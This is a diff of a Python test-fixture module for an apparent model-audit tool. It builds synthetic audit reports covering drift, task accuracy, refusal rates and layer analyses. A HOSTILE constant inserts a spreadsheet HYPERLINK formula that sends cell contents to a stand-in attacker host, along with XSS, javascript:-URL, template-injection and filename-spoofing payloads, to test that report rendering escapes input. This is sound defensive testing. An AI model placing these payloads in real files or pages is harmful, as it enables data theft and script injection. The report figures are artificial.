@@ -2,211 +2,224 @@
 
 from __future__ import annotations
 
-from copy import deepcopy
+from collections.abc import Sequence
+from dataclasses import fields, is_dataclass, replace
+from enum import Enum
 from typing import Any
+
+from keeptune.audit.safety.section import Answer, SetDetails
+from keeptune.audit.settings import SECTIONS
+from keeptune.audit.where.layers import LayerProfile
+from keeptune.audit.where.passages import Continuation, Passage
+from keeptune.audit.where.view import WhereDetails
+from keeptune.probes.recovery import Recovery
+from keeptune.report.codec import from_json, to_json
+from keeptune.report.document import Model, Outcome, OutcomeStatus, Report, SectionRecord, Status, Subject
+from keeptune.report.finding import Finding, Level, found, together
+from keeptune.stats import Interval
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
 HOSTILE = (
     FORMULA + "</script></textarea></title></style><script>alert(1)</script><img src=x onerror=alert(2)>"
     "<svg onload=alert(3)><a href='javascript:alert(4)'>{{7*7}}{% raw %}<b>bold</b>\u202etxt.exe\x00&lt;\"'`"
 )
-_STRUCTURE = {"verdict", "verdicts", "kind", "status", "headline", "measure"}
-_NAMED = {"texts", "tasks", "sets", "detectors", "refused", "versions", "machine", "task_measures"}
+ALL = (*SECTIONS, Recovery)
+# What the code decides on, and no name from outside.
+_STRUCTURE = {"section", "measure", "unit", "unit_of_n", "better", "kind", "version", "digest"}
 
 
-def interval(value: float, width: float | None = 0.01, documents: int = 16) -> dict[str, Any]:
+def interval(value: float, width: float | None = 0.01, n: int = 16) -> Interval:
     low, high = (None, None) if width is None else (value - width, value + width)
-    return {"value": value, "low": low, "high": high, "documents": documents}
+    return Interval(value=value, low=low, high=high, documents=n)
 
 
-def estimate(value: float, width: float = 0.05) -> dict[str, float]:
-    return {"value": value, "low": value - width, "high": value + width}
+def text_findings(name: str, kl: float, ce_change: float = -0.0411, n: int = 16) -> list[Finding]:
+    about: Any = {"unit_of_n": "document", "noise_floor": 0.0063}
+    loss = {"base": Level(value=2.5), "tuned": Level(value=2.5 + ce_change)}
+    return [
+        found("drift", name, "kl", interval(kl, n=n), headline=True, **about),
+        found("drift", name, "ce_change", interval(ce_change, n=n), headline=True, **loss, **about),
+        found("drift", name, "l_f_rise", interval(0.33, n=n), **about),
+        found("drift", name, "agreement", interval(0.7123456789, n=n), **about),
+        found("drift", name, "entropy", interval(1.5, n=n), **about),
+    ]
 
 
-def reading(kl: float, verdict: str = "drifted") -> dict[str, Any]:
-    values = {"kl": kl, "l_f_rise": 0.33, "ce_change": -0.0211, "agreement": 0.7123456789}
-    return {
-        "source": "source of it",
-        "documents": 16,
-        "tokens": 4080,
-        "measures": {name: interval(value) for name, value in values.items()},
-        "verdicts": dict.fromkeys(values, verdict),
-    }
+def task_findings(change: float, p: float, part: str, *, headline: bool = True, n: int = 50) -> list[Finding]:
+    levels = {"base": Level(value=0.4, low=0.35, high=0.45), "tuned": Level(value=0.4 + change)}
+    about: Any = {"unit_of_n": "item", "part": part}
+    accuracy = found("tasks", "arc", "accuracy", interval(change, 0.05, n), p=p, lost=9, gained=1, judged=headline,
+                     headline=headline, **levels, **about)  # fmt: skip
+    same = found("tasks", "arc", "agreement", interval(0.8, 0.05, n), judged=False, **about)
+    lost = found("tasks", "arc", "lost_beyond_chance", interval(0.16, None, n), **about)
+    return [accuracy, same, lost] if headline else [accuracy]
 
 
-def answers(change: float, p: float) -> dict[str, Any]:
-    return {
-        "items": 50,
-        "accuracy_base": estimate(0.4),
-        "accuracy_tuned": estimate(0.4 + change),
-        "change": estimate(change),
-        "right_to_wrong": 9,
-        "wrong_to_right": 1,
-        "mcnemar_p": p,
-        "agreement": estimate(0.8),
-        "forgetting": {"raw": 0.18, "low": 0.1, "high": 0.31, "chance": 0.02, "beyond_chance": 0.16},
-        "backward_transfer": {"raw": 0.02, "low": 0.0, "high": 0.1, "chance": 0.02, "beyond_chance": 0.0},
-        "answers": {"base": "A", "tuned": "B"},
-    }
+def refusal_findings(name: str, kind: str, change: float, p: float) -> list[Finding]:
+    levels = {"base": Level(value=0.72, low=0.67, high=0.77), "tuned": Level(value=0.72 + change)}
+    about: Any = {"unit_of_n": "prompt", "of": f"{kind} prompts"}
+    better: Any = "higher" if kind == "harmful" else "lower"
+    paired: Any = {**about, **levels, "lost": 32, "gained": 3, "headline": True}
+    return [
+        found("refusals", name, "refusals", interval(change, 0.05, 100), p=p, part="rules", better=better, **paired),
+        found("refusals", name, "refusals", interval(-0.02, 0.05, 100), p=0.8, part="likelihood", better=better,
+              **paired),
+        found("refusals", name, "broken", interval(0.02, 0.05, 100), p=0.7, **paired),
+        found("refusals", name, "refusal_log_odds", interval(1.5, n=100), judged=False, **about, **levels),
+    ]  # fmt: skip
 
 
-def detector(change: float, verdict: str) -> dict[str, Any]:
-    transitions = {"refused_refused": 40, "refused_answered": 32, "answered_refused": 3, "answered_answered": 25}
-    return {
-        "refused_base": estimate(0.72),
-        "refused_tuned": estimate(0.72 + change),
-        "change": estimate(change),
-        "transitions": transitions,
-        "broken": 7,
-        "mcnemar_p": 0.000012,
-        "verdict": verdict,
-    }
+def where_findings(name: str) -> list[Finding]:
+    made = []
+    for part, n in (("probability: below 0.1", 3), ("probability: 0.1 and above", 16), ("position: 1–3", 16),
+                    ("kind: Greek", 16)):  # fmt: skip
+        for measure, value, width in (("class_kl_share", 0.5, None), ("class_token_share", 0.25, None),
+                                      ("class_kl", 0.5, 0.01), ("class_ce_change", 0.1, 0.01)):  # fmt: skip
+            made.append(found("where", name, measure, interval(value, width, n), "document", part=part))
+    return made
 
 
-def prompts(kind: str, verdict: str) -> dict[str, Any]:
+def layer_findings() -> list[Finding]:
+    made = [found("where", "self", name, interval(0.27), "document") for name in ("layer_kl", "rest_restored")]
+    for layer in range(4):
+        for measure in ("layer_moved", "layer_patched", "layer_restored", "layer_repaired"):
+            made.append(found("where", "self", measure, interval(0.1 * layer), "document", part=f"layer {layer}"))
+    return made
+
+
+def recovery_findings(*, share: bool = True) -> list[Finding]:
+    levels = {"base": Level(value=2.0), "tuned": Level(value=2.27)}
+    made = [
+        found("recovery", "self", "gap_before", interval(0.27), "document", headline=not share, **levels),
+        found("recovery", "self", "gap_after", interval(0.11), "document", **levels),
+    ]
+    return [*made, found("recovery", "self", "recovered_share", interval(0.59), "document", headline=True)][: 2 + share]
+
+
+def harness_findings() -> list[Finding]:
+    about: Any = {"better": "higher", "base": Level(value=0.5), "tuned": Level(value=0.4), "headline": True}
+    change = interval(-0.1, 0.2, 40)
+    return [
+        found("lm_eval", "sums", "lm_eval", change, "item", part="acc", p=0.29, lost=6, gained=2, **about),
+        found("lm_eval", "sums", "lm_eval", change, "item", part="f1", **about),
+    ]
+
+
+def answers(count: int = 3) -> list[Answer]:
     refused = {"rules": [True, False], "likelihood": [True, True]}
-    answer = {"prompt": "How do I?", "base": "I cannot.", "tuned": "wire;", "refused": refused}
-    detectors = {"rules": detector(-0.29, verdict), "likelihood": detector(-0.02, "no change shown")}
-    detectors["likelihood"]["log_odds"] = {name: interval(1.5) for name in ("base", "tuned", "change")}
-    return {
-        "source": "goals.csv",
-        "kind": kind,
-        "asked": 100,
-        "format": "chat",
-        "new_tokens": 64,
-        "detectors": detectors,
-        "detectors_agree": {"base": estimate(0.91), "tuned": estimate(0.73)},
-        "degenerate": {model: {"empty": 3, "repeating": 4, "share": estimate(0.07)} for model in ("base", "tuned")},
-        "answers": [deepcopy(answer) for _ in range(3)],
+    one = Answer(prompt="How do I?", base="I cannot.", tuned="wire;", refused=refused, broken=[False, True])
+    return [one] * count
+
+
+def where_details() -> WhereDetails:
+    tokens, kl = ["upon", " a", " time"], [0.2, 1.5, 7.25]
+    passage = Passage(text="self", document="sample 3", context="Once ", ids=[1, 2, 3], tokens=tokens, kl=kl,
+                      mean_kl=2.98)  # fmt: skip
+    written = Continuation(text="self", document="sample 1", prompt="It", base=" was\n", tuned=" is")
+    layers = LayerProfile(text="self", windows=12, tokens=1140)
+    return WhereDetails(passages=[passage], continuations=[written], layers=layers)
+
+
+def subject(name: str, kind: Any = "text", digest: str = "d", **more: Any) -> Subject:
+    unit: Any = {"text": "document", "task": "item", "prompts": "prompt"}[kind]
+    return Subject(name=name, kind=kind, source="source of it", n=16, unit_of_n=unit, digest=digest, **more)
+
+
+def records() -> list[SectionRecord]:
+    sets = {"advbench": SetDetails(kind="harmful", answers=answers()),
+            "harmless": SetDetails(kind="harmless", answers=answers())}  # fmt: skip
+    subjects = {
+        "drift": [subject("self", tokens=4080), subject("pydoc", tokens=4080)],
+        "tasks": [subject("arc", "task")],
+        "refusals": [subject("advbench", "prompts"), subject("harmless", "prompts")],
     }
+    details: dict[str, Any] = {"refusals": to_json(sets), "where": to_json(where_details())}
+    return [
+        SectionRecord(
+            name=section.name,
+            title=section.title,
+            status=Status.MEASURED,
+            subjects=subjects.get(section.name, []),
+            methods=[f"How {section.name} was measured."],
+            details=details.get(section.name),
+        )
+        for section in ALL
+    ]
 
 
-def classes(*names: str) -> list[dict[str, Any]]:
-    one = {"tokens": 400, "token_share": 0.25, "kl_share": 0.5, "kl": interval(0.5), "ce_change": interval(0.1)}
-    return [{"class": name, **deepcopy(one), "enough_evidence": index > 0} for index, name in enumerate(names)]
+def gate() -> list[Outcome]:
+    reason = "kl on self is 0.2678 [0.2578, 0.2778], bound kl ≤ 0.2: the interval excludes the bound"
+    return [Outcome(subject="self", part="", measure="kl", limit=0.2, bound="kl ≤ 0.2", status=OutcomeStatus.BROKEN,
+                    reason=reason)]  # fmt: skip
 
 
-def where() -> dict[str, Any]:
-    groups = {
-        "probability": classes("below 0.1", "0.1 and above"),
-        "position": classes("1–3"),
-        "kind": classes("Greek"),
-    }
-    keys = ("moved", "kl_output_patched", "kl_layer_restored", "kl_repaired")
-    return {
-        "texts": {"self": {"classes": groups}, "pydoc": {"classes": deepcopy(groups)}},
-        "passages": [
-            {
-                "text": "self",
-                "document": "sample 3",
-                "context": "Once ",
-                "tokens": ["upon", " a", " time"],
-                "kl": [0.2, 1.5, 7.25],
-                "mean_kl": 2.98,
-            }
-        ],
-        "layers": {
-            "text": "self",
-            "windows": 12,
-            "tokens": 1140,
-            "kl": interval(0.27),
-            "rest_restored": interval(0.25),
-            "layers": [{"layer": layer, **{key: interval(0.1 * layer) for key in keys}} for layer in range(4)],
-        },
-        "continuations": [{"text": "self", "document": "sample 1", "prompt": "It", "base": " was\n", "tuned": " is"}],
-    }
+def findings() -> list[Finding]:
+    return [
+        *text_findings("self", 0.2678),
+        *text_findings("pydoc", 0.2145, ce_change=0.045),
+        *task_findings(-0.16, 0.001, "plain"),
+        *task_findings(-0.02, 1.0, "chat"),
+        *task_findings(0.0, 1.0, "plain, raw sum", headline=False),
+        *harness_findings(),
+        *refusal_findings("advbench", "harmful", -0.29, 0.000012),
+        *refusal_findings("harmless", "harmless", 0.01, 1.0),
+        *where_findings("self"),
+        *where_findings("pydoc"),
+        *layer_findings(),
+        *recovery_findings(),
+    ]
 
 
-def task() -> dict[str, Any]:
-    return {
-        "source": "arc.jsonl",
-        "items_in_source": 1150,
-        "asked": ["a"] * 50,
-        "headline": "per_character",
-        "formats": {
-            "plain": {"left_out": 2, "per_character": answers(-0.16, 0.02), "raw_sum": answers(0.0, 1.0)},
-            "chat": {"left_out": 0, "per_character": answers(-0.02, 1.0), "raw_sum": answers(0.0, 1.0)},
-        },
-    }
-
-
-def harness() -> dict[str, Any]:
-    f1 = {"items": 40, "base": 0.5, "tuned": 0.4, "change": estimate(-0.1), "higher_is_better": True}
-    acc = {**f1, "right_to_wrong": 6, "wrong_to_right": 2, "mcnemar_p": 0.29}
-    return {"limit": 40, "tasks": {"sums": {"acc": acc, "f1": f1}}}
-
-
-def full_report() -> dict[str, Any]:
-    """Every section."""
-    floors = {name: {"floor": 0.0063} for name in ("kl", "l_f_rise", "ce_change", "agreement")}
-    return {
-        "base": {"source": "smollm2", "fingerprint": "7d6cbd88e1b1e631e4b5"},
-        "tuned": {"source": "runs/model", "fingerprint": "c5ef3e43c7ed7f2cdba1"},
+def make_report(made: Sequence[Finding] = (), **replaced: Any) -> Report:
+    """A report of these findings."""
+    given: dict[str, Any] = {
+        "kind": "audit",
+        "base": Model(source="smollm2", fingerprint="7d6cbd88e1b1e631e4b5"),
+        "tuned": [Model(source="runs/model", fingerprint="c5ef3e43c7ed7f2cdba1")],
         "vocabulary": None,
-        "settings": {"docs": 16, "windows": 4, "max_length": 256},
-        "texts": {"self": reading(0.2678), "pydoc": reading(0.2145)},
-        "noise_floor": {
-            "how": "the base against itself in bfloat16",
-            "texts": {name: {"measures": floors} for name in ("self", "pydoc")},
-        },
-        "verdict_rule": "drifted: the whole interval.",
-        "measures": {"kl": "KL(base‖tuned), nats per token", "agreement": "fraction of tokens"},
-        "intervals": "95% percentile bootstrap over documents, 2000 resamples",
-        "tasks": {"arc": task()},
-        "lm_eval": harness(),
-        "task_measures": {"mcnemar_p": "exact two-sided p"},
-        "safety": {
-            "sets": {
-                "advbench": prompts("harmful", "refuses less"),
-                "harmless": prompts("harmless", "no change shown"),
-            },
-            "detectors": {"rules": "what the answer says", "likelihood": "likelier openings"},
-            "verdict_rule": "refuses less: p below 0.05.",
-        },
-        "where": where(),
-        "recovery": {
-            "text": "self",
-            "documents": 16,
-            "documents_tuned_on": 15,
-            "steps": 16,
-            "rows_a_step": 4,
-            "learning_rate": 5e-5,
-            "measures": {"gap_before": interval(0.27), "gap_after": interval(0.11)},
-            "recovered_share": interval(0.59),
-            "verdict": "more than half is recovered",
-            "rule": "recovered: the whole interval above a half.",
-        },
-        "gate": [
-            {
-                "name": "self",
-                "part": "",
-                "measure": "kl",
-                "limit": 0.2,
-                "bound": "kl ≤ 0.2",
-                "status": "broken",
-                "reason": "kl on self is 0.2678 [0.2578, 0.2778], bound kl ≤ 0.2: the interval excludes the bound",
-            }
-        ],
+        "settings": {"docs": 16},
+        "sections": records(),
+        "findings": together(list(made)),
+        "gate": [],
         "command": "keeptune audit smollm2 runs/model --docs 16",
         "commit": "2211f21",
         "seed": 1,
         "versions": {"keeptune": "0.1.0"},
         "machine": {"architecture": "x86_64", "accelerator": None, "threads": 2},
     }
+    return Report(**{**given, **replaced})
 
 
-def hostile_report() -> dict[str, Any]:
-    """The same with `HOSTILE` as every name and in front of every text that is no part of the report's structure."""
-    report: dict[str, Any] = _hostile(full_report(), "")
-    return report
+def full_report() -> Report:
+    """Every section."""
+    return make_report(findings(), gate=gate())
 
 
-def _hostile(content: Any, key: str) -> Any:
-    if key in _STRUCTURE:
-        return content
-    if isinstance(content, dict):
-        rename = HOSTILE if key in _NAMED else ""
-        return {rename + name: _hostile(part, name) for name, part in content.items()}
-    if isinstance(content, list):
-        return [_hostile(part, key) for part in content]
-    return HOSTILE + content if isinstance(content, str) else content
+def hostile_report() -> Report:
+    """The same with `HOSTILE` in front of every text that is no part of the report's structure."""
+    report = _hostile(full_report())
+    sections = []
+    for record in report.sections:
+        kinds: dict[str, Any] = {"refusals": dict[str, SetDetails], "where": WhereDetails}
+        name = record.name.removeprefix(HOSTILE)
+        details = record.details
+        if name in kinds:
+            details = to_json(_hostile(from_json(kinds[name], details), names=True))
+        sections.append(replace(record, name=name, details=details))
+    return replace(report, sections=sections)
+
+
+def _hostile(value: Any, *, names: bool = False) -> Any:
+    if isinstance(value, Enum):
+        return value
+    if is_dataclass(value):
+        parts = {one.name: getattr(value, one.name) for one in fields(value)}
+        kept = {name for name in parts if name in _STRUCTURE or (name == "details")}
+        return replace(value, **{name: part if name in kept else _hostile(part, names=names) for name, part in
+                                 parts.items()})  # type: ignore[type-var]  # fmt: skip
+    if isinstance(value, dict):
+        return {HOSTILE + key if names or key in ("keeptune", "threads") else key: _hostile(part, names=names)
+                for key, part in value.items()}  # fmt: skip
+    if isinstance(value, list):
+        return [_hostile(part, names=names) for part in value]
+    return HOSTILE + value if isinstance(value, str) else value
